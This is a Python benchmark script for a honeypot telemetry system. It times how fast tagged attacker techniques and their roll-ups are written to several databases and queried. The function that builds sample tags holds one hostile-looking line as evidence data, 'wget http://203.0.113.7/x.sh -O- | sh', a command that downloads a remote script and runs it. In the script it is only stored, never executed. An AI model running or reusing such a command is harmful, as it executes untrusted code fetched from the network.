"""Tags with their roll-ups into each database: rows per second as the table grows, and roll-up queries at its size.

``python -m bench.tags 10000000`` goes to ten million rows, ``--only sqlite`` stays with one database. The databases
take turns at every point of the curve, so that an hour in which the machine does less is the same for each. Then
several processes write at once, each the tags of its own attackers, like workers that share the bus's partitions.
"""

from __future__ import annotations

import argparse
import os
import random
import statistics
import subprocess
import sys
import tempfile
import time
from contextlib import ExitStack, contextmanager
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from bench import curve
from decnet.db.actors import Actors
from decnet.db.engine import open_database
from decnet.db.tags import TagWriter
from decnet.db.views import technique_counts, techniques_of_attacker
from decnet.models.actor import attacker_uuid, session_uuid
from decnet.models.event import COMMAND, CommandPayload, Event, EventId
from decnet.models.event_batch import EventBatch
from decnet.models.tag import TTPTag, compute_tag_uuid
from decnet.telemetry import install_tracing
from tests.databases import BACKENDS, ready_database

if TYPE_CHECKING:
    from collections.abc import Iterator

    from decnet.db.engine import Database

BATCH = 1_000
TURNS = 10
"""How often each database has its turn at a point of the curve."""
TURN = 5
"""Batches of one turn."""
POINTS = (0, 100_000, 300_000, 1_000_000, 3_000_000, 10_000_000)
WRITERS = 4
"""Processes that write at once."""
WARM_UP = 5
BATCHES_OF_WRITER = 25
ROUNDS = 5
FIRST_OF_WRITERS = 20_000_000
"""Past the rows of every curve."""
ATTACKERS = 5_000
SESSIONS = 40_000
DAY_US = 86_400_000_000
START_US = 1_790_000_000_000_000
TAGS_PER_DAY = 300_000
USES = [(f"TA00{number % 9 + 1:02}", f"T1{number:03}", f"R0{number:03}") for number in range(60)]
QUERIES = 60


class Point(NamedTuple):
    """Rows per second, in median and range over turns, once the table held ``rows``."""

    rows: int
    rate: float
    slowest: float
    fastest: float


class Filled:
    """A database that is filled with batches of tags; ``spent`` is where the time went, in seconds."""

    def __init__(self, backend: str, database: Database) -> None:
        self.backend = backend
        self.database = database
        self.spent: dict[str, float] = {}
        self._chance = random.Random(7)
        self._sessions = store_sessions(database, self._chance)
        self._writer = TagWriter(Actors(), shard=0 if database.is_embedded else 3)
        self._rows = 0

    def fill(self, rows: int) -> None:
        """Store batches until there are ``rows``."""
        install_tracing(partial(_timed, {}))
        while self._rows < rows:
            self._store_batch()

    def turn(self) -> float:
        """Rows per second over one turn."""
        install_tracing(partial(_timed, self.spent))
        took = sum([self._store_batch() for _ in range(TURN)])
        self.spent["whole"] = self.spent.get("whole", 0.0) + took
        return TURN * BATCH / took

    def _store_batch(self) -> float:
        tags = batch_of_tags(self._chance, self._sessions, self._rows)
        self._rows += BATCH
        return _timed_batch(self.database, self._writer, tags)


def main() -> None:
    """Print the curve of each database, and ratios."""
    options = argparse.ArgumentParser()
    options.add_argument("rows", nargs="?", type=int, default=1_000_000)
    options.add_argument("--only", choices=BACKENDS)
    options.add_argument("--writer", nargs=3, help=argparse.SUPPRESS)
    chosen = options.parse_args() if __name__ == "__main__" else options.parse_args([])
    if chosen.writer:
        _write(int(chosen.writer[0]), int(chosen.writer[1]), chosen.writer[2])
        return
    print(f"tags with roll-ups, batches of {BATCH:,}, rows per second (wall clock, commit included)")
    with ExitStack() as stack:
        backends = [chosen.only] if chosen.only else BACKENDS
        all_filled = [Filled(backend, stack.enter_context(_database(backend))) for backend in backends]
        curves = _curves(all_filled, chosen.rows)
        crowded = _crowded(all_filled)
        for filled in all_filled:
            _show(filled, curves[filled.backend], crowded[filled.backend])
    if not chosen.only and chosen.rows >= POINTS[1]:
        drawn = {backend: [(point.rows, point.rate) for point in points] for backend, points in curves.items()}
        (Path(__file__).parent / "tags.svg").write_text(curve.draw(drawn), "utf-8")
    for backend, points in curves.items():
        if backend != "sqlite" and "sqlite" in curves:
            ratios = [
                f"{here.rate / there.rate:.2f} x at {here.rows:,}"
                for here, there in zip(points, curves["sqlite"], strict=True)
            ]
            print(f"  {backend:<11} against sqlite: {', '.join(ratios)}")


def _show(filled: Filled, points: list[Point], crowded: list[float]) -> None:
    backend, database = filled.backend, filled.database
    for point in points:
        told = f"{point.rate:>8,.0f}   ({point.slowest:,.0f} to {point.fastest:,.0f})"
        print(f"  {backend:<11} at {point.rows:>10,} rows  {told}")
    print(f"  {backend:<11} time: {_shares(filled.spent)}")
    told = f"{statistics.median(crowded):>8,.0f}   ({min(crowded):,.0f} to {max(crowded):,.0f})"
    print(f"  {backend:<11} {WRITERS} processes at once   {told}")
    for name, times in _queries(database).items():
        p95 = statistics.quantiles(times, n=20)[-1] * 1e3
        print(f"  {backend:<11} {name:<28} p50 {statistics.median(times) * 1e3:.2f} ms, p95 {p95:.2f} ms")


@contextmanager
def _timed(spent: dict[str, float], name: str, **_attributes: object) -> Iterator[None]:
    """A span that is added up."""
    started = time.perf_counter()
    try:
        yield
    finally:
        spent[name] = spent.get(name, 0.0) + time.perf_counter() - started


def _shares(spent: dict[str, float]) -> str:
    """Where the time of the batches that were measured went."""
    whole, rows, rollups = spent["whole"], spent["db.tags.insert"], spent["db.tags.rollups"]
    parts = {"tag rows": rows, "roll-ups": rollups, "actors, evidence, commit": whole - rows - rollups}
    return ", ".join(f"{name} {share / whole:.0%}" for name, share in parts.items())


@contextmanager
def _database(backend: str) -> Iterator[Database]:
    with ExitStack() as stack:
        if backend == "sqlite":
            folder = stack.enter_context(tempfile.TemporaryDirectory())
            database = open_database(f"sqlite:///{Path(folder) / 'decnet.sqlite'}")
            stack.callback(database.close)
            yield database
        else:
            yield stack.enter_context(ready_database(backend))


def _curves(all_filled: list[Filled], most: int) -> dict[str, list[Point]]:
    curves: dict[str, list[Point]] = {filled.backend: [] for filled in all_filled}
    for rows in [rows for rows in POINTS if rows <= most]:
        rates: dict[str, list[float]] = {filled.backend: [] for filled in all_filled}
        for filled in all_filled:
            filled.fill(rows)
        for _ in range(TURNS):
            for filled in all_filled:
                rates[filled.backend].append(filled.turn())
        for backend, measured in rates.items():
            curves[backend].append(Point(rows, statistics.median(measured), min(measured), max(measured)))
    return curves


def _crowded(all_filled: list[Filled]) -> dict[str, list[float]]:
    """Rows per second of all writers together, per round."""
    rates: dict[str, list[float]] = {filled.backend: [] for filled in all_filled}
    for number in range(ROUNDS):
        for filled in all_filled:
            rates[filled.backend].append(_rate_of_writers(filled.database, number))
    return rates


def _rate_of_writers(database: Database, number: int) -> float:
    """Rows per second from the first batch to the end of the last, in the round of this number."""
    url = database.url.render_as_string(hide_password=False)
    writers = [_writer(str(lane), str(number), url) for lane in range(WRITERS)]
    _wait_for_a_line(writers)
    started = time.perf_counter()
    for writer in writers:
        print("go", file=writer.stdin, flush=True)
    _wait_for_a_line(writers)
    took = time.perf_counter() - started
    for writer in writers:
        writer.communicate()
    return WRITERS * BATCHES_OF_WRITER * BATCH / took


def _writer(*what: str) -> subprocess.Popen[str]:
    command = [sys.executable, "-m", "bench.tags", "--writer", *what]
    return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)


def _wait_for_a_line(writers: list[subprocess.Popen[str]]) -> None:
    for writer in writers:
        if writer.stdout is None or not writer.stdout.readline():
            raise AssertionError(f"a writer ended with {writer.wait()}")


def _write(lane: int, number: int, url: str) -> None:
    """Be one of several writers: say that all is ready, wait for a line, store, say so."""
    database = open_database(url)
    chance = random.Random(7)
    own = [event for event in _events(chance) if attacker_uuid(event.src_ip)[0] % WRITERS == lane]
    count = WARM_UP + BATCHES_OF_WRITER
    first = FIRST_OF_WRITERS + number * count * BATCH
    batches = [batch_of_tags(chance, own, first + place * BATCH) for place in range(count)]
    writer = TagWriter(Actors(), shard=0 if database.is_embedded else lane + 4)
    for batch in batches[:WARM_UP]:
        _timed_batch(database, writer, batch)
    print("ready", flush=True)
    sys.stdin.readline()
    for batch in batches[WARM_UP:]:
        _timed_batch(database, writer, batch)
    print("stored", flush=True)
    database.close()


def _timed_batch(database: Database, writer: TagWriter, tags: list[TTPTag]) -> float:
    started = time.perf_counter()
    new = database.write(lambda connection: writer.insert_tags(connection, tags, now=START_US), writer.forget)
    took = time.perf_counter() - started
    if len(new) != len(tags):
        raise AssertionError(f"{len(new)} of {len(tags)} tags were new")
    return took


def store_sessions(database: Database, chance: random.Random) -> list[Event]:
    """One event of each session: what tags need of it; attackers are as uneven as real ones."""
    events = _events(chance)
    actors = Actors()
    for start in range(0, SESSIONS, BATCH):
        part = events[start : start + BATCH]
        database.write(partial(actors.sessions_of, events=EventBatch.of(part).first_events()), actors.forget)
    return events


def _events(chance: random.Random) -> list[Event]:
    return [_event(number, _address(chance)) for number in range(SESSIONS)]


def _address(chance: random.Random) -> str:
    number = int(chance.paretovariate(0.7)) % ATTACKERS
    return f"10.{number >> 8}.{number & 255}.7"


def _event(number: int, address: str) -> Event:
    sensor, native = f"sensor-{number % 5}", f"{number:012x}"
    session = session_uuid(sensor, native)
    at = START_US
    key = EventId(number.to_bytes(16, "big"))
    return Event(key, at, sensor, sensor, "ssh", address, 4711, session, native, COMMAND, CommandPayload("id"), 0)


def batch_of_tags(chance: random.Random, sessions: list[Event], first: int) -> list[TTPTag]:
    """A batch as a busy fleet writes it: in order of time, a few sessions at once, a few tags per command."""
    live = [sessions[(first // 25 + number) % len(sessions)] for number in range(60)]
    step = DAY_US // TAGS_PER_DAY
    return [_tag(chance, chance.choice(live), START_US + (first + number) * step) for number in range(BATCH)]


def _tag(chance: random.Random, event: Event, at: int) -> TTPTag:
    number = min(int(chance.paretovariate(0.9)) - 1, len(USES) - 1)
    tactic, technique, rule = USES[number]
    source = os.urandom(16).hex()
    matched = "wget http://203.0.113.7/x.sh -O- | sh"
    return TTPTag(
        uuid=compute_tag_uuid(COMMAND, source, rule, 1, technique, None),
        source_kind=COMMAND,
        source_id=source,
        attacker_uuid=attacker_uuid(event.src_ip),
        identity_uuid=None,
        session_id=event.session_id,
        decky_id=event.decky_id,
        tactic=tactic,
        technique_id=technique,
        sub_technique_id=None,
        confidence=(0.5, 0.7, 0.85, 0.9, 0.95)[number % 5],
        rule_id=rule,
        rule_version=1,
        evidence={"matched": matched, "start": 0, "end": 38, "terms": ["match.exec"], "command": matched},
        attack_release="enterprise-19.2",
        observed_at=at,
    )


def _queries(database: Database) -> dict[str, list[float]]:
    busiest = database.read(
        lambda connection: connection.exec_driver_sql(
            "SELECT attacker_id FROM rollup_attacker GROUP BY attacker_id ORDER BY sum(count) DESC LIMIT 1"
        ).scalar_one()
    )
    return {
        "roll-up of the busiest attacker": _times(database, busiest),
        "roll-up of the fleet": _times(database, None),
    }


def _times(database: Database, attacker: int | None) -> list[float]:
    times = []
    for _ in range(QUERIES):
        started = time.perf_counter()
        if attacker is None:
            found = database.read(lambda connection: technique_counts(connection, 0.6))
        else:
            found = database.read(lambda connection: techniques_of_attacker(connection, attacker, 0.6))
        times.append(time.perf_counter() - started)
        if not found:
            raise AssertionError("the roll-up is empty")
    return times


if __name__ == "__main__":
    main()
